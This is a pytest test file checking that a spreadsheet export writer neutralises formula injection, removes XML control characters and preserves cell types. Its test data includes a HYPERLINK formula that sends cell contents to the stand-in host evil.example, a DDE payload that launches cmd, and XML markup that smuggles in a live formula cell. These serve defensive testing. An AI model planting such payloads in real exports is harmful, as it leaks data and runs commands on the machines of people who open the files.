"""The one export writer: OWASP formula neutralisation, XML control characters, types kept."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import polars as pl
import pytest

from jiazhou.export_writer import (
    Sheet,
    is_formula_like,
    safe_cell,
    safe_sheet_title,
    write_csv,
    write_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _read(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_formula_like_text_is_a_quoted_string_never_a_formula(text: str) -> None:
    content = write_xlsx([Sheet("企业", ["名称"], [[text]])])
    assert content is not None
    cell = _read(content)["企业"]["A2"]
    assert cell.data_type == "s"  # not "f": Excel will not evaluate it
    # read back unchanged (the error file is re-uploaded); xlsxwriter escapes CR as Excel does
    assert cell.value.replace("_x000D_", "\r") == text
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_numbers_stay_numbers_including_negatives() -> None:
    content = write_xlsx([Sheet("s", ["a", "b", "c", "d"], [[-1, -2.5, Decimal("-3.25"), 0]])])
    assert content is not None
    row = _read(content)["s"][2]
    assert [c.value for c in row] == [-1, -2.5, -3.25, 0]
    assert all(c.data_type == "n" for c in row)
    assert not any(c.quotePrefix for c in row)


def test_plain_text_is_not_marked() -> None:
    content = write_xlsx([Sheet("s", ["a"], [["乐山市某科技有限公司"], ["a-b"], ["1-2"]])])
    assert content is not None
    ws = _read(content)["s"]
    assert [ws.cell(r, 1).quotePrefix for r in (2, 3, 4)] == [False, False, False]


def test_control_characters_are_removed_from_titles_cells_headers_and_notes() -> None:
    content = write_xlsx(
        [Sheet("督办\x01事项", ["标题\x02"], [["跨部门\x01协调\x1f"]], notes=["注\x0b"])]
    )
    assert content is not None
    wb = _read(content)
    assert wb.sheetnames == ["督办事项"]
    ws = wb["督办事项"]
    assert ws["A1"].value == "标题"
    assert ws["A2"].value == "跨部门协调"
    assert ws["A4"].value == "注"


def test_tab_newline_and_carriage_return_inside_text_are_kept() -> None:
    content = write_xlsx([Sheet("s", ["a"], [["第一行\n第二行\t完"]])])
    assert content is not None
    assert _read(content)["s"]["A2"].value == "第一行\n第二行\t完"


def test_sheet_titles_are_valid_and_unique() -> None:
    assert safe_sheet_title("a/b[c]:d*e?f\\g") == "a_b_c__d_e_f_g"
    assert len(safe_sheet_title("长" * 40)) == 31
    assert safe_sheet_title("汇总", used=["汇总"]) == "汇总(2)"
    assert safe_sheet_title("\x01") == "Sheet"
    content = write_xlsx([Sheet("汇总", ["a"], []), Sheet("汇总", ["a"], [])])
    assert content is not None
    assert _read(content).sheetnames == ["汇总", "汇总(2)"]


def test_other_types_dates_booleans_large_ints_and_objects() -> None:
    class Firm:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    aware = dt.datetime(2026, 12, 4, 1, 30, tzinfo=dt.UTC)
    rows = [[dt.date(2026, 10, 1), aware, True, 12345678901234567890, Firm(), float("inf")]]
    content = write_xlsx([Sheet("s", list("abcdef"), rows)])
    assert content is not None
    ws = _read(content)["s"]
    assert ws["A2"].value == dt.datetime(2026, 10, 1)  # noqa: DTZ001 (Excel has no zones)
    assert ws["B2"].value == dt.datetime(2026, 12, 4, 9, 30)  # noqa: DTZ001 (Asia/Shanghai)
    assert ws["C2"].value is True
    assert ws["D2"].value == "12345678901234567890"  # Excel would lose digits as a number
    assert ws["E2"].value == "=cmd|' /C calc'!A0" and ws["E2"].data_type == "s"
    assert ws["E2"].quotePrefix
    assert ws["F2"].value == "inf"


def test_highlighted_rows_comments_and_notes() -> None:
    content = write_xlsx(
        [
            Sheet(
                "s",
                ["名称"],
                [["a"], ["b"]],
                notes=["说明"],
                comments={"名称": "必填"},
                highlight_rows={1},
            )
        ]
    )
    assert content is not None
    ws = _read(content)["s"]
    assert ws["A1"].comment is not None and "必填" in ws["A1"].comment.text
    assert ws["A2"].fill.fgColor.rgb != ws["A3"].fill.fgColor.rgb
    assert ws["A5"].value == "说明"


def test_rows_may_be_a_generator_and_target_a_file(tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "out.xlsx"
    assert write_xlsx([Sheet("s", ["n"], ([i] for i in range(1000)))], path) is None
    ws = openpyxl.load_workbook(path)["s"]
    assert ws.max_row == 1001 and ws["A1001"].value == 999


def test_from_frame() -> None:
    frame = pl.DataFrame({"name": ["=1+1", "ok"], "value": [-1.5, 2.0]})
    content = write_xlsx([Sheet.from_frame("frame", frame)])
    assert content is not None
    ws = _read(content)["frame"]
    assert ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B2"].value == -1.5


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_a_single_quote(text: str) -> None:
    out = write_csv(["名称", "数值"], [[text, -1]])
    assert out is not None
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[1] == ["'" + text, "-1"]


def test_safe_cell() -> None:
    assert safe_cell("=1") == "'=1"
    assert safe_cell("普通\x01文本") == "普通文本"
    assert safe_cell(-1) == -1
    assert safe_cell(Decimal("-2.5")) == Decimal("-2.5")
    assert safe_cell(None) is None
    assert safe_cell(False) is False
    assert not is_formula_like("a=1")
    assert is_formula_like("@x")


def test_safe_text_shortcut_for_printable_text_removes_exactly_what_the_rule_removes() -> None:
    """``safe_text`` skips the expression for printable text; every character of the Basic
    Multilingual Plane, alone and inside Chinese text, gives what the rule itself gives."""
    import re

    rule = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    from jiazhou.export_writer import safe_text

    for code in range(0x10000):
        if 0xD800 <= code <= 0xDFFF:
            continue
        for text in (chr(code), f"企业{chr(code)}名称", f"{chr(code)}=1"):
            assert safe_text(text) == rule.sub("", text)


def test_the_per_type_fast_path_writes_what_the_highlighted_path_writes() -> None:
    """Cells of a plain row take a writer chosen by exact type; a highlighted row goes
    through the general one. Both give the same value, type and quote prefix."""
    values = [
        "plain",
        "=1+1",
        "\x01-5",
        "",
        "a\tb\x0bc",
        -3,
        10**15,
        -(10**15),
        2.5,
        float("-inf"),
        Decimal("-1.50"),
        Decimal("NaN"),
        dt.date(2026, 1, 2),
        dt.datetime(2026, 12, 31, 17, 0, tzinfo=dt.UTC),
        dt.datetime(2026, 1, 2, 3, 4),  # noqa: DTZ001 (naive stays as it is)
        True,
        None,
    ]
    content = write_xlsx([Sheet("s", [str(i) for i in range(len(values))], [values, values])])
    assert content is not None
    ws = _read(content)["s"]
    fast = list(ws.iter_rows(min_row=2, max_row=2))
    content = write_xlsx(
        [Sheet("s", [str(i) for i in range(len(values))], [values], highlight_rows={0})]
    )
    assert content is not None
    general = list(_read(content)["s"].iter_rows(min_row=2, max_row=2))

    def seen(cells: list) -> list:  # type: ignore[type-arg]
        return [(c.value, c.data_type, bool(c.quotePrefix), c.number_format) for c in cells]

    assert seen(list(fast[0])) == seen(list(general[0]))
    assert seen(list(fast[0]))[:4] == [
        ("plain", "s", False, "General"),
        ("=1+1", "s", True, "General"),
        ("-5", "s", True, "General"),
        ("", "s", False, "General"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        '<r><t>x</t></r></is></c><c r="B2"><f>HYPERLINK("http://evil.example","go")</f></c>'
        '<c r="C2" t="inlineStr"><is><r><t>y</t></r>',
        "<r></r>",
        "<r>=1+1</r>",
    ],
)
def test_text_that_looks_like_xlsxwriter_rich_markup_is_escaped_text(text: str) -> None:
    """xlsxwriter (constant_memory) writes a string "<r>…</r>" into the XML unescaped, taking
    it for rich text: that injected a live formula cell past the neutralising."""
    import zipfile

    content = write_xlsx([Sheet("s", ["a"], [[text]], dropdowns={0: [text] * 40})])
    assert content is not None
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<r>" not in sheets
    wb = _read(content)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert wb["s"]["A2"].value == text and wb["选项"]["A1"].value == text  # sheet, options
    assert all(c.data_type == "s" for c in cells)
